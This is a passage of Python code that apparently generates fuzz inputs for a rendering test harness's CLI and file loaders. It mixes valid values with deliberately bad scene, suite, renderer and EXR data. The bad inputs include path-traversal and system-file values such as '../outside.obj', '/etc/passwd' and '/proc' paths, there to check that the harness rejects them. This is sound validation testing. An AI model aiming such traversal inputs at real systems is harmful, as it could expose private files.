        slots = [(s, p) for s, p in _scene_slots(doc) if s in SCENE_VALID]
        for slot, path in rng.sample(slots, min(len(slots), rng.randint(1, 3))):
            _set_path(doc, path, rng.choice(SCENE_VALID[slot]))
        return to_toml(doc), [], True, False
    if roll < 0.55:  # one certainly bad value
        if _emitter_list(doc) and rng.random() < 0.15:
            reason = _emitter_special(rng, doc)  # edits doc
            return to_toml(doc), [reason], False, False
        slot, path = rng.choice([(s, p) for s, p in _scene_slots(doc) if s in SCENE_BAD])
        value = rng.choice(SCENE_BAD[slot])
        if slot == ("camera", "target") and rng.random() < 0.3:
            value = doc["camera"].get("origin", value)
        _set_path(doc, path, value)
        outside = (slot == ("mesh", "file") and value in ("../outside.obj", "/etc/passwd")) or \
            (slot == ("envmap", "file") and value == "../outside.exr")
        return to_toml(doc), [f"{'.'.join(map(str, path))} = {value!r}"], False, outside
    if roll < 0.62:  # a required key deleted, or a material a shape uses
        emitters = [(i, e) for i, e in enumerate(_emitter_list(doc)) if isinstance(e, dict)
                    and e.get("type") in EMITTER_REQUIRED]
        if emitters and rng.random() < 0.3:
            index, emitter = rng.choice(emitters)
            required = EMITTER_REQUIRED[emitter["type"]]
            if emitter["type"] == "spot" and "to_world" not in emitter:
                required += ("position", "target")
            key = rng.choice(required)
            emitter.pop(key, None)
            return to_toml(doc), [f"required emitters.{index}.{key} deleted"], False, False
        shapes = [s for s in doc.get("shapes", []) if isinstance(s, dict) and s.get("material") in doc.get("materials", {})]
        if shapes and rng.random() < 0.3:
            name = rng.choice(shapes)["material"]
            del doc["materials"][name]
            return to_toml(doc), [f"material {name!r} deleted, a shape uses it"], False, False
        path = rng.choice(sorted(REQUIRED))
        if len(path) == 2 and not isinstance(doc.get(path[0]), dict):
            path = path[:1]
        get_path(doc, path[:-1]).pop(path[-1], None)
        return to_toml(doc), [f"required {'.'.join(path)} deleted"], False, False
    if roll < 0.88:
        reasons = random_edits(rng, doc, scene_keys)
        return to_toml(without_none(doc)), reasons, False, False
    return text_edits(rng, text), [], False, False


def _emitter_special(rng: random.Random, doc: dict) -> str:
    """One edit of ``doc``'s [[emitters]] that is bad because of the rest of the entry or of the scene; returns why.
    Always applicable: a key of another type (every type lacks some key) and a second environment (a constant when
    the scene has one already, else a second constant)."""
    emitters = _emitter_list(doc)
    entries = [(i, e) for i, e in enumerate(emitters) if isinstance(e, dict) and e.get("type") in EMITTER_REQUIRED]
    choices = ["a key of another type", "a second environment"]
    spots = [(i, e) for i, e in entries if e["type"] == "spot"]
    if any("position" in e for _, e in spots):
        choices.append("target = position")
    if spots:
        choices.append("beam_width > cutoff_angle")
    if len(entries) >= 2:
        choices.append("a duplicate name")
    what = rng.choice(choices)
    if what == "target = position":
        index, spot = rng.choice([(i, e) for i, e in spots if "position" in e])
        spot["target"] = list(spot["position"])
    elif what == "beam_width > cutoff_angle":
        index, spot = rng.choice(spots)
        cutoff = spot.get("cutoff_angle", 20)
        spot["beam_width"] = cutoff + rng.choice((1e-6 * cutoff, 1, 30))
    elif what == "a duplicate name":
        (index, first), (_, second) = rng.sample(entries, 2)
        name = first.get("name", f"emitter{index}")
        second["name"] = name if isinstance(name, str) else "x"
        first["name"] = second["name"]
    elif what == "a second environment":
        has = [e for e in emitters if isinstance(e, dict) and e.get("type") in ("constant", "envmap")]
        emitters.insert(rng.randrange(len(emitters) + 1), {"type": "constant", "radiance": [1, 1, 1]})
        if not has:
            emitters.insert(rng.randrange(len(emitters) + 1), {"type": "constant", "radiance": [0.5, 0.5, 0.5]})
        return f"{what} in [[emitters]]"
    else:  # a key that applies only to other types than the entry's
        index, entry = rng.choice(entries)
        foreign = {"point": ("radiance", "file", "cutoff_angle", "direction"), "spot": ("radiance", "direction",
                   "irradiance", "file", "scale", "rotate"), "directional": ("position", "intensity", "radiance",
                   "file"), "constant": ("position", "intensity", "direction", "file", "rotate", "scale"),
                   "envmap": ("position", "intensity", "radiance", "target", "direction")}[entry["type"]]
        key = rng.choice(foreign)
        entry[key] = {"file": "sky.exr", "rotate": {"axis": [0, 1, 0], "angle": 5}, "scale": 1.0,
                      "cutoff_angle": 20}.get(key, [0.0, -1.0, 0.5])
        return f"emitters.{index}.{key}: a key of another type than {entry['type']!r}"
    return f"emitters.{index}: {what}"


SPECIAL_FILES = {  # (content, certainly bad)
    "empty": (b"", True), "not-utf8": (b"\xff\xfe[camera]", True), "huge-int": (b"name = 1" + b"0" * 5000, True),
    "nested": (b"a = " + b"[" * 2000 + b"]" * 2000, True), "nul": (b"name = \"a\x00b\"", True),
    "binary": (bytes(range(256)) * 4, True),
}
SPECIAL_PATHS = {  # a path instead of a file, all bad
    "/dev/zero": "/dev/zero", "/dev/null": "/dev/null", "folder": "sub", "missing": "missing.toml",
    "proc": "/proc/harness-fuzz/x.toml", "passwd": "/etc/passwd",
}


def special_file(rng: random.Random, inp: Input, name: str) -> str:
    """Put a special file (or name a special path) for ``name``; returns the path to pass. Marks the input bad."""
    if rng.random() < 0.5:
        kind = rng.choice(sorted(SPECIAL_FILES))
        data, bad = SPECIAL_FILES[kind]
        inp.files[name] = data
        if bad:
            inp.bad.append(f"{name} is {kind}")
        return name
    kind = rng.choice(sorted(SPECIAL_PATHS) + ["folder", "missing", "proc"])  # /dev/zero: rarer, each costs seconds
    if kind == "folder":
        inp.dirs.append("sub")
    inp.bad.append(f"{name} is {kind}")
    return SPECIAL_PATHS[kind]


def add_scene(rng: random.Random, inp: Input, assets: Assets, name: str = "scene.toml", base: str | None = None,
              special: float = 0.04, mutate: float = 0.5) -> tuple[str, bool]:
    """Write the scene folder (every tiny scene and mesh) and a generated scene ``name``; returns (path, names a
    mesh outside). The input is marked bad or valid as the scene is."""
    inp.files.update(assets.scene_files())
    inp.copies["../outside.obj"] = "tri.obj"
    inp.copies["../outside.exr"] = "sky.exr"
    if rng.random() < special:
        return special_file(rng, inp, name), False
    text, bad, valid, outside = scene_document(rng, assets, base, mutate)
    inp.files[name] = text.encode("utf-8", "surrogatepass")
    inp.bad += bad
    inp.valid = inp.valid and valid
    return name, outside


# ---------------------------------------------------------------------------------------------------------------
# Options: valid and certainly bad values

INT_BAD = ["0", "-1", "x", "", "1.5", "1e3", "1_000", "nan", " ", "0x10", "\u0663", "\uff11\uff16", "--", "2 2"]
SPP_VALID = ["1", "2", "3", "4"]
SPP_BAD = INT_BAD + ["-2147483648", "10000000000", "10000000000000", "9" * 30]
SEED_VALID = ["0", "1", "7", "4294967295"]
SEED_BAD = ["-1", "x", "", "1.5", "1_0", "\u0663", "-9" * 3]
SET_VALID = ["direct=area", "direct=mis", "direct=hemisphere-cosine", "direct=global-area", "light_selection=uniform",
             "hemisphere=uniform", "rr=fixed", "rr_depth=1", "absorption=0.5", "shadow_rays=2", "indirect_rays=2",
             "sampler=independent", "max_depth=2", "max_depth=-1", "batch_size=64", "threads=1", "engine=wavefront",
             "mutant=double-emission", " direct = mis "]
SET_BAD = ["nokey", "=x", "direct=nope", "shadow_rays=0", "shadow_rays=-1", "shadow_rays=x", "spp=4", "seed=1",
           "nope=1", "absorption=1", "absorption=nan", "max_depth=0", "threads=-1", "batch_size=0", "mutant=nope",
           "indirect_rays=1000000", "rr_depth=0", "sampler=halton", "engine=", "direct=", "shadow_rays=1_0",
           "shadow_rays=1e9"]
FLOAT_BAD = ["x", "", "nan", "inf", "-inf", "1e999", "--1"]


def pick(rng: random.Random, inp: Input, option: str, valid: list[str], bad: list[str], p_bad: float) -> list[str]:
    """``[option, value]``: a certainly bad value with probability p_bad (marked), else a valid one."""
    if rng.random() < p_bad:
        value = rng.choice(bad)
        inp.bad.append(f"{option} {value!r}")
    else:
        value = rng.choice(valid)
    return [option, value]


def out_file(rng: random.Random, inp: Input, p_bad: float, suffix: str = ".exr", option: str = "--out") -> list[str]:
    """An output file option: valid, or certainly bad (no folder, a file as folder, /proc, wrong suffix, too long)."""
    inp.files["blocker"] = b"a file, not a folder"
    inp.dirs.append("outdir")
    bad = ["", "nofolder/x" + suffix, "blocker/x" + suffix, "/proc/harness-fuzz/x" + suffix, "x" * 300 + suffix]
    if suffix == ".exr":
        bad += ["out.png", "out", suffix, "outdir"]
    return pick(rng, inp, option, [f"out{suffix}", f"outdir/o{suffix.upper()}", f"./o{suffix}"], bad, p_bad)


def out_folder(rng: random.Random, inp: Input, p_bad: float, option: str = "--out") -> list[str]:
    inp.files["blocker"] = b"a file, not a folder"
    bad = ["", "blocker", "blocker/sub", "/proc/harness-fuzz/out", "x" * 300, "/dev/null"]
    return pick(rng, inp, option, ["out", "out/deeper", "./o"], bad, p_bad)


def ladder(rng: random.Random, inp: Input, option: str, p_bad: float, floats: bool = False) -> list[str]:
    valid = ["0.05", "0.02,0.05"] if floats else ["1,2", "1,2,4", "2", " 1, 2 "]
    bad = ["0", "-1", "", ",", "a", "4,2,1", "1,1", "1;2", "nan", "inf", "1e999"]
    bad += ["1e300", "-0.1", "0.05,0"] if floats else ["1.5", "1,2,x", "1_0", "10000000000000"]
    return pick(rng, inp, option, valid, bad, p_bad)


def flags(rng: random.Random, *names: str, p: float = 0.3) -> list[str]:
    return [name for name in names if rng.random() < p]


def common_options(rng: random.Random, inp: Input, argv: list[str], p: float = 0.08) -> None:
    """Now and then --cache-dir and --mitsuba-variant, usable or not (not certainly bad: many inputs never need
    the cache or Mitsuba)."""
    inp.files["blocker"] = b"a file, not a folder"
    if rng.random() < p:
        argv += ["--cache-dir", rng.choice(["cache", "cache/deeper", "blocker", "/proc/harness-fuzz/c", ""])]
    if rng.random() < p:
        argv += ["--mitsuba-variant", rng.choice(["scalar_rgb", "llvm_ad_rgb", "nope", ""])]


def maybe_unknown_option(rng: random.Random, inp: Input, argv: list[str], p: float = 0.04) -> None:
    """Now and then an unknown option, a stray positional or a missing value (certainly bad)."""
    if rng.random() < p:
        junk = rng.choice([["--bogus"], ["--spp"], ["extra-positional"], ["--spp=2", "--spp"], ["-x", "1"]])
        if junk == ["--spp"] and argv[-1] == "--spp":
            junk = ["--bogus"]
        argv += junk
        inp.bad.append(f"stray arguments {junk}")


def settle_settings(inp: Input, argv: list[str]) -> None:
    """A --set whose key a later --set gives again is overridden: it is not a reason the input is bad."""
    values = [argv[i + 1] for i in range(len(argv) - 1) if argv[i] == "--set"]
    for i, value in enumerate(values):
        key = value.partition("=")[0].strip()
        reason = f"--set {value!r}"
        if "=" in value and reason in inp.bad and any(v.partition("=")[0].strip() == key and "=" in v
                                                      for v in values[i + 1:]):
            inp.bad.remove(reason)  # one occurrence: the same bad value given again still counts


def cli_input(entry: str, index: int, argv: list[str]) -> Input:
    return Input(entry, index, ["cli", *argv], valid=True)


# ---------------------------------------------------------------------------------------------------------------
# Generators, one per entry point


def gen_load_scene(rng, assets, index) -> Input:
    inp = Input("load_scene", index, ["load_scene", "scene.toml"], valid=True)
    path, _ = add_scene(rng, inp, assets, special=0.08, mutate=1.0)
    inp.call[1] = path
    inp.names = [path]
    return inp


def gen_render(rng, assets, index) -> Input:
    inp = cli_input("render", index, ["render"])
    scene, outside = add_scene(rng, inp, assets, base=rng.choice(["tiny.toml", "shapes.toml", "furnace.toml",
                                                                  "lights.toml", "sky.toml", None]))
    argv = [scene, *pick(rng, inp, "--spp", SPP_VALID, SPP_BAD, 0.15), *out_file(rng, inp, 0.1)]
    if rng.random() < 0.5:
        argv += pick(rng, inp, "--seed", SEED_VALID, SEED_BAD, 0.15)
    for _ in range(rng.choice((0, 0, 1, 2))):
        argv += pick(rng, inp, "--set", SET_VALID, SET_BAD, 0.35)
    if "--set" in argv and any(v.startswith("rr=") for v in argv):
        argv += ["--set", "max_depth=3"]
    if rng.random() < 0.15:
        inp.files["renderer.toml"] = assets.texts["renderer.toml"].encode()
        inp.files["good.exr"] = assets.blobs["good.exr"]
        argv += pick(rng, inp, "--renderer", ["renderer.toml", "reference"], ["refrence", "", "nope.toml",
                                                                               "/etc/passwd", "renderers"], 0.4)
        if argv[-1] == "renderer.toml" and "--set" in argv:
            inp.bad.append("--set for an external renderer")
    if rng.random() < 0.05:
        argv += ["--mitsuba-variant", rng.choice(["scalar_rgb", "nope"])]
        if "--renderer" not in argv or argv[argv.index("--renderer") + 1] != "mitsuba":
            inp.bad.append("--mitsuba-variant without --renderer mitsuba")
    argv += flags(rng, "--json", "--quiet", "--allow-outside-paths")
    if outside and "--allow-outside-paths" in argv:
        inp.bad = [b for b in inp.bad if "file =" not in b]
    settle_settings(inp, argv)
    maybe_unknown_option(rng, inp, argv)
    inp.call += argv
    return inp


SUITE_TABLES = {(): ("name", "description", "defaults", "cases", "baseline")}
CASE_KEYS = ("name", "scene", "renderer", "settings", "spp", "seconds", "chunk_spp", "seed", "against", "film",
             "metrics", "thresholds", "expect", "alpha", "tile", "ground_truth_spp", "max_depth", "timeout", "variant")


def suite_keys(path: tuple):
    if path in SUITE_TABLES:
        return SUITE_TABLES[path]
    if path == ("defaults",):
        return tuple(k for k in CASE_KEYS if k not in ("name", "scene"))
    if len(path) == 2 and path[0] == "cases":
        return CASE_KEYS
    if len(path) == 3 and path[0] == "cases" and path[2] == "against":
        return ("renderer", "spp", "seed", "settings")
    if len(path) == 3 and path[0] == "cases" and path[2] == "film":
        return ("width", "height")
    return None


CASE_BAD = {
    "spp": [0, -1, 1.5, "8", 10**20, True, 1], "seconds": [0, -1, NAN, 1e9, "1", INF], "chunk_spp": [0, -1, 1.5],
    "seed": [-1, 1.5, "0"], "alpha": [0, 1, NAN, -0.1, 2, "0.01"], "tile": [0, 5000, -1, 2.5],
    "expect": ["maybe", "", True], "metrics": [["rsme"], "rmse", [5], ["rmse", "nope"]],
    "thresholds": [{"rmse": -1}, {"nope": 1}, {"rmse": NAN}, {"rmse": "x"}, 5],
    "against": ["grund-truth", {"renderer": "reference", "spp": 1}, {"spp": 4}, {"renderer": "refrence", "spp": 4},
                {"renderer": "reference", "spp": 4, "zzz": 1}, 5, "closed-form!"],
    "film": [{"width": 0, "height": 16}, {"width": 100000, "height": 16}, {"width": 16, "height": -1},
             "16x16", {"width": 16, "height": 16, "filter": "box"}],
    "name": [".", "..", "a/b", "a_b", "x" * 300, 5, "a\x00b"],  # a/b, a_b: bad beside each other (one folder)
    "scene": ["nope", "/dev/zero", "/etc/passwd", "", 5, "sub"],
    "renderer": ["refrence", "", "nope.toml", 5],
    "settings": [{"shadow_rays": 0}, {"nope": 1}, {"direct": "nope"}, {"spp": 4}, "direct=mis"],
    "variant": ["translate=1e300", "scale=0", "nope", "scale", "original=1", "translate=nan", 5],
    "ground_truth_spp": [0, -1, 10**12, 1.5], "max_depth": [0, -2, 1.5, "3"], "timeout": [0, -1, NAN, "10"],
}
CASE_VALID = {
    "spp": [2, 4], "seed": [0, 5], "alpha": [0.01, 0.001], "tile": [4, 8, 16], "expect": ["pass", "fail"],
    "metrics": [["rmse"], ["rmse", "psnr", "bias"]], "thresholds": [{"rmse": 10.0}, {"psnr": 1}],
    "max_depth": [2, 3], "timeout": [60, 120.5], "name": ["renamed", "with space", "\u00e9\u6f22"],
    "settings": [{"direct": "mis"}, {"shadow_rays": 2}],
}
BASELINE_TABLE_BAD = [{"relmse": "x"}, {"nope": 1}, {"relmse": 0.5}, {"alpha": 2}, {"bias": -1}, 5, {"rmse": NAN}]


def suite_document(rng: random.Random, assets: Assets, mutate: float = 1.0) -> tuple[str, list[str], bool]:
    """A suite file's text from the base suite: (text, reasons it is bad, valid); kept valid with probability
    1 - ``mutate``."""
    text = assets.texts["suite.toml"]
    doc = tomllib.loads(text)
    doc["cases"] = rng.sample(doc["cases"], rng.randint(1, len(doc["cases"])))
    roll = rng.random() if rng.random() < mutate else rng.random() * 0.25
    if roll < 0.15:
        return to_toml(doc), [], True
    if roll < 0.25:
        case = rng.choice(doc["cases"])
        for key in rng.sample(sorted(CASE_VALID), rng.randint(1, 2)):
            case[key] = rng.choice(CASE_VALID[key])
        names = [c.get("name") for c in doc["cases"]]
        return to_toml(doc), [] if len(set(names)) == len(names) else ["duplicate case names"], True
    if roll < 0.6:
        key = rng.choice(sorted(CASE_BAD) + ["baseline", "defaults"])
        if key == "baseline":
            doc["baseline"] = rng.choice(BASELINE_TABLE_BAD)
            return to_toml(doc), [f"baseline = {doc['baseline']!r}"], False
        table, where = (doc["defaults"], "defaults") if key == "defaults" else (rng.choice(doc["cases"]), "cases[i]")
        key = rng.choice([k for k in CASE_BAD if k not in ("name", "scene")]) if key == "defaults" else key
        value = rng.choice(CASE_BAD[key])
        table[key] = value
        if key == "name" and value in ("a/b", "a_b"):  # both map to the folder cases/a_b (the base suite has a/b)
            if not any(c is not table and c.get("name") in ("a/b", "a_b") for c in doc["cases"]):
                return to_toml(doc), [], True
        if key == "spp" and "seconds" in table:
            del table["seconds"]
        return to_toml(doc), [f"{where}.{key} = {value!r}"], False
    if roll < 0.68:
        choice = rng.choice(["scene", "cases", "duplicate", "both-budgets"])
        if choice == "scene":
            del rng.choice(doc["cases"])["scene"]
        elif choice == "cases":
            doc["cases"] = rng.choice([[], {}, "x", [5]])
        elif choice == "duplicate":
            doc["cases"].append(dict(doc["cases"][0]))
        else:
            rng.choice(doc["cases"])["seconds"] = 0.05
            if rng.random() < 0.5:
                doc["defaults"].pop("spp")
                rng.choice(doc["cases"])["spp"] = 2  # one case has both again
                doc["cases"] = [c for c in doc["cases"] if "seconds" in c and "spp" in c] or doc["cases"]
                if not all("seconds" in c and "spp" in c for c in doc["cases"]):
                    return to_toml(doc), [], False
        return to_toml(doc), [f"structure: {choice}"], False
    if roll < 0.9:
        reasons = random_edits(rng, doc, suite_keys)
        return to_toml(without_none(doc)), reasons, False
    return text_edits(rng, to_toml(doc)), [], False


def add_suite(rng, inp: Input, assets: Assets, special: float = 0.03, mutate: float = 0.6) -> str:
    inp.files.update(assets.scene_files())
    inp.files["renderer.toml"] = assets.texts["renderer.toml"].encode()
    inp.files["good.exr"] = assets.blobs["good.exr"]
    inp.copies["../outside.obj"] = "tri.obj"
    if rng.random() < special:
        return special_file(rng, inp, "suite.toml")
    text, bad, valid = suite_document(rng, assets, mutate)
    if rng.random() < 0.05 and valid:  # an external renderer case
        text = text.replace('name = "tiny"', 'name = "tiny"\nrenderer = "renderer.toml"', 1) if "[[cases]]" in text \
            else text.replace('"name": "tiny"', '"name": "tiny", "renderer": "renderer.toml"')
    inp.files["suite.toml"] = text.encode("utf-8", "surrogatepass")
    inp.bad += bad
    inp.valid = inp.valid and valid
    return "suite.toml"


def gen_load_suite(rng, assets, index) -> Input:
    inp = Input("load_suite", index, ["load_suite", "suite.toml"], valid=True)
    inp.call[1] = add_suite(rng, inp, assets, special=0.08, mutate=1.0)
    inp.names = [inp.call[1]]
    return inp


TOLERANCE_VALID = ["relmse=1.10", "seconds=1.5", "bias=off", "rmse=auto", "alpha=0.01"]
TOLERANCE_BAD = ["relmse=-1", "nope=1", "relmse=x", "relmse", "=1", "alpha=2", "relmse=0.5", "bias=-3", "rmse=nan"]


def run_options(rng, inp: Input, p_bad: float) -> list[str]:
    argv = out_folder(rng, inp, p_bad)
    roll = rng.random()
    if roll < 0.01:  # a worker pool starts in ~3 s: rarely
        argv += ["--executor", "local", "--workers", "1"]
    elif roll < 0.1:
        argv += pick(rng, inp, "--executor", ["serial"], ["nope", "tcp://", "", "dask-ish", "tcp://:x"], 1.0)
    elif roll < 0.14:
        argv += ["--executor", "serial", *pick(rng, inp, "--workers", ["1"], ["0", "-1", "x", "1.5"], 0.8)]
    else:
        argv += ["--executor", "serial"]
    if rng.random() < 0.15:
        argv += pick(rng, inp, "--timeout", ["60", "120.5"], ["0", "-1", "nan", "x", "-inf", "inf"], 0.6)
    if rng.random() < 0.1:
        argv += pick(rng, inp, "--junit", ["junit.xml", "outdir/j.xml", "newfolder/j.xml"],  # its folder is created
                     ["blocker/j.xml", "/proc/harness-fuzz/j.xml", "", "outdir"], 0.5)
        inp.dirs.append("outdir")
    argv += flags(rng, "--fresh", "--quiet", "--allow-outside-paths")
    if rng.random() < 0.9:
        argv.append("--no-report")
    return argv


def gen_run(rng, assets, index) -> Input:
    inp = cli_input("run", index, ["run"])
    suite = add_suite(rng, inp, assets)
    argv = [suite, *run_options(rng, inp, 0.1)]
    if rng.random() < 0.1:
        inp.files["baseline.json"] = assets.texts["baseline.json"].encode()
        argv += ["--baseline", "baseline.json"]
        for _ in range(rng.randint(0, 2)):
            argv += pick(rng, inp, "--baseline-tolerance", TOLERANCE_VALID, TOLERANCE_BAD, 0.5)
    elif rng.random() < 0.03:
        argv += ["--baseline-tolerance", "relmse=1.1"]
        inp.bad.append("--baseline-tolerance without --baseline")
    common_options(rng, inp, argv)
    maybe_unknown_option(rng, inp, argv)
    inp.call += argv
    return inp


RENDERER_BAD = {
    "name": ["", "a/b", 5, "..", "x" * 300, "\u00e9"], "command": [[], "cp", [1], ["{nope}", "{out}"], ["cp"], [""]],
    "timeout": [0, -1, NAN, INF, "x", True, 1e308], "repeats": [0, 1, -1, 1.5, 10**9, True, 10**400],
    "description": [5, ["x"]],
}
RENDERER_VALID = {"name": ["copy2", "v1.2 fast"], "timeout": [5, 60.5], "repeats": [2, 3], "description": ["", "x"],
                  "command": [["cp", "{here}/good.exr", "{out}"], ["{python}", "-c", "import shutil, sys; "
                              "shutil.copy(sys.argv[1], sys.argv[2])", "{here}/good.exr", "{out}"],
                              ["false", "{out}"], ["sleep", "5", "{out}"], ["/nonexistent-program", "{out}"]]}


def renderer_document(rng: random.Random, assets: Assets) -> tuple[str, list[str], bool]:
    doc = tomllib.loads(assets.texts["renderer.toml"])
    roll = rng.random()
    if roll < 0.25:
        for key in rng.sample(sorted(RENDERER_VALID), rng.randint(0, 2)):
            doc[key] = rng.choice(RENDERER_VALID[key])
        if doc["command"][0] == "sleep":
            doc["timeout"] = 1  # the shortest a renderer file may set
        return to_toml(doc), [], True
    if roll < 0.65:
        key = rng.choice(sorted(RENDERER_BAD))
        doc[key] = rng.choice(RENDERER_BAD[key])
        return to_toml(doc), [f"{key} = {doc[key]!r}"], False
    if roll < 0.7:
        doc.pop("command")
        return to_toml(doc), ["no command"], False
    if roll < 0.9:
        reasons = random_edits(rng, doc, lambda p: ("name", "description", "command", "timeout", "repeats")
                               if p == () else None)
        return to_toml(without_none(doc)), reasons, False
    return text_edits(rng, assets.texts["renderer.toml"]), [], False


def gen_renderer_file(rng, assets, index) -> Input:
    inp = Input("renderer_file", index, [], valid=True)
    inp.files["good.exr"] = assets.blobs["good.exr"]
    if rng.random() < 0.06:
        path = special_file(rng, inp, "renderer.toml")
        if not path.endswith(".toml"):
            path = "renderer.toml"  # a non-.toml name is a renderer name, not a file (see the suites' tests)
            inp.files.setdefault(path, b"")
            inp.bad.append("empty renderer file")
    else:
        text, bad, valid = renderer_document(rng, assets)
        path = "renderer.toml"
        inp.files[path] = text.encode("utf-8", "surrogatepass")
        inp.bad += bad
        inp.valid = valid
    if rng.random() < 0.5:
        inp.call = ["load_spec", path]
        inp.names = [path]
        return inp
    inp.files.update(assets.scene_files())
    inp.call = ["cli", "render", "tiny.toml", "--renderer", path, "--spp", rng.choice(SPP_VALID), "--out", "out.exr",
                *flags(rng, "--json", "--quiet")]
    return inp


def json_document(rng: random.Random, text: str, targeted: dict, keys) -> tuple[str, list[str], bool]:
    """A JSON file from ``text``: unchanged (valid), a targeted bad edit (``targeted``: name -> edit(doc) returning
    the new document), random edits, text edits or not JSON at all."""
    roll = rng.random()
    if roll < 0.1:
        return text, [], True
    doc = json.loads(text)
    if roll < 0.45:
        name = rng.choice(sorted(targeted))
        return json.dumps(targeted[name](doc, rng)), [name], False
    if roll < 0.8:
        reasons = random_edits(rng, doc, keys, json_null=True)
        return json.dumps(doc), reasons, False
    if roll < 0.92:
        return text_edits(rng, text), [], False
    junk = rng.choice(["", "{", "[" * 100000 + "]" * 100000, "null", "NaN", '{"cases": ' * 5000, "\x00" * 10,
                       '"just a string"', "[]"])
    return junk, ["not a results/baseline document"], False


def _set(doc, path, value):
    _set_path(doc, path, value)
    return doc


RESULTS_BAD = {
    "top is a list": lambda d, r: [d], "top is a string": lambda d, r: "results",
    "cases deleted": lambda d, r: {k: v for k, v in d.items() if k != "cases"},
    "cases not a list": lambda d, r: _set(d, ("cases",), r.choice([5, "x", {"a": 1}, None])),
    "a case not a table": lambda d, r: _set(d, ("cases", 0), r.choice([5, "x", None, []])),
    "a case's name not a string": lambda d, r: _set(d, ("cases", 0, "name"), r.choice([5, None, ["x"]])),
    "a case's metrics not a table": lambda d, r: _set(d, ("cases", 0, "metrics"), r.choice([5, "x", []])),
    "suite not a string": lambda d, r: _set(d, ("suite",), r.choice([5, None, []])),
}


def results_keys(path: tuple):
    return None


def add_run(inp: Input, assets: Assets) -> None:
    for name, data in assets.run_files.items():
        inp.files[f"run/{name}"] = data


def gen_report(rng, assets, index) -> Input:
    inp = cli_input("report", index, ["report"])
    add_run(inp, assets)
    inp.files.update(assets.scene_files())
    inp.files["suite.toml"] = assets.texts["suite.toml"].encode()
    if rng.random() < 0.05:
        results = special_file(rng, inp, "run/results.json")
    else:
        text, bad, valid = json_document(rng, assets.texts["results.json"], RESULTS_BAD, results_keys)
        inp.files["run/results.json"] = text.encode("utf-8", "surrogatepass")
        inp.bad += bad
        inp.valid = valid
        results = "run/results.json"
    argv = [results]
    if rng.random() < 0.3:
        argv += out_folder(rng, inp, 0.3)
    studies = rng.random() < 0.03  # --studies: the studies computed again first (tiny), then the full report
    if studies:
        argv += ["--studies", "--convergence-spp", "1,2", "--strategy-spp", "2"]
    else:
        argv += ["--no-convergence", "--no-shadow-rays", "--no-strategies"]
        if rng.random() < 0.2:  # the computing flags apply only with --studies: any value is refused
            argv += pick(rng, inp, "--convergence-spp", [], ["1,2", "4", "0", "-1", "", ",", "a", "1;2", "nan"], 1.0)
        if rng.random() < 0.2:
            argv += pick(rng, inp, "--strategy-spp", [], ["2", "4", *INT_BAD], 1.0)
    argv += flags(rng, "--quiet", "--no-strategy-renders", "--allow-outside-paths", p=0.2)
    if "--no-strategy-renders" in argv and not studies:
        inp.bad.append("--no-strategy-renders without --studies")
    common_options(rng, inp, argv)
    maybe_unknown_option(rng, inp, argv)
    inp.call += argv
    return inp


BASELINE_BAD = {
    "schema changed": lambda d, r: _set(d, ("schema",), r.choice(["x", 1, None])),
    "version changed": lambda d, r: _set(d, ("version",), r.choice([2, "1", None, 0, 1.5])),
    "cases not a table": lambda d, r: _set(d, ("cases",), r.choice([[], 5, "x", None])),
    "a case not a table": lambda d, r: _set(d, ("cases", "furnace"), r.choice([5, "x", None, []])),
    "a definition changed": lambda d, r: _set(d, ("cases", "furnace", "definition"), r.choice(["0" * 64, 5, None])),
    "another suite": lambda d, r: _set(d, ("suite",), r.choice(["other", 5, None])),
    "schema deleted": lambda d, r: {k: v for k, v in d.items() if k != "schema"},
    "a metric not a number": lambda d, r: _set(d, ("cases", "furnace", "metrics", "relmse"), r.choice(["x", [], {}])),
}


def gen_baseline(rng, assets, index) -> Input:
    """``harness baseline save`` (from a generated results.json, or running a generated suite) and ``harness run
    --baseline`` with a generated baseline file."""
    inp = cli_input("baseline", index, [])
    inp.files.update(assets.scene_files())
    add_run(inp, assets)
    inp.files["suite.toml"] = assets.texts["suite.toml"].encode()
    roll = rng.random()
    if roll < 0.45:
        if rng.random() < 0.05:
            results = special_file(rng, inp, "run/results.json")
        else:
            text, bad, valid = json_document(rng, assets.texts["results.json"], RESULTS_BAD, results_keys)
            inp.files["run/results.json"] = text.encode("utf-8", "surrogatepass")
            inp.bad += bad
            inp.valid = valid
            results = "run/results.json"
        argv = ["baseline", "save", "suite.toml", *out_file(rng, inp, 0.1, ".json"), "--from", results]
    elif roll < 0.55:
        suite = add_suite(rng, inp, assets)
        argv = ["baseline", "save", suite, *out_file(rng, inp, 0.1, ".json")]
        argv += out_folder(rng, inp, 0.1, "--run-out") + flags(rng, "--allow-unexpected", "--quiet")
    else:
        if rng.random() < 0.05:
            baseline = special_file(rng, inp, "baseline.json")
        else:
            text, bad, valid = json_document(rng, assets.texts["baseline.json"], BASELINE_BAD, lambda p: None)
            inp.files["baseline.json"] = text.encode("utf-8", "surrogatepass")
            inp.bad += bad
            inp.valid = valid
            baseline = "baseline.json"
        argv = ["run", "suite.toml", "--baseline", baseline, "--out", "out", "--executor", "serial", "--no-report",
                "--quiet"]
        if rng.random() < 0.3:
            argv += pick(rng, inp, "--baseline-tolerance", TOLERANCE_VALID, TOLERANCE_BAD, 0.5)
    common_options(rng, inp, argv)
    maybe_unknown_option(rng, inp, argv)
    inp.call += argv
    return inp


def _exr(image, variance=None, **kwargs) -> bytes:
    """The bytes of an EXR file of these arrays."""
    path = Path(f"/tmp/harness-fuzz-exr-{os.getpid()}.exr")
    try:
        imageio.write_exr(path, image, variance, **kwargs)
        return path.read_bytes()
    finally:
        path.unlink(missing_ok=True)


def _patch_window(data: bytes, x_max: int, y_max: int) -> bytes:
    start = data.index(b"dataWindow\x00box2i\x00") + len(b"dataWindow\x00box2i\x00") + 4
    x_min, y_min, _, _ = struct.unpack("<4i", data[start:start + 16])
    return data[:start] + struct.pack("<4i", x_min, y_min, x_max, y_max) + data[start + 16:]


class ExrMaker:
    """EXR variants: (bytes, reason it is certainly bad or None). Synthesised images are made once."""

    def __init__(self, assets: Assets):
        self.good = assets.blobs["good.exr"]
        ones = np.ones((16, 16, 3), np.float32)
        nan = ones.copy()
        nan[2, 3, 1] = np.nan
        self.made = {
            "nan-pixel": (_exr(nan, ones), "reference-bad"), "no-variance": (_exr(ones), "test-bad"),
            "negative-variance": (_exr(ones, -ones), "bad"), "bigger": (_exr(np.ones((32, 16, 3)), np.ones((32, 16, 3))), "bad"),
            "all-inf": (_exr(np.full_like(ones, -np.inf), ones), None), "all-zero": (_exr(0 * ones, 0 * ones), None),
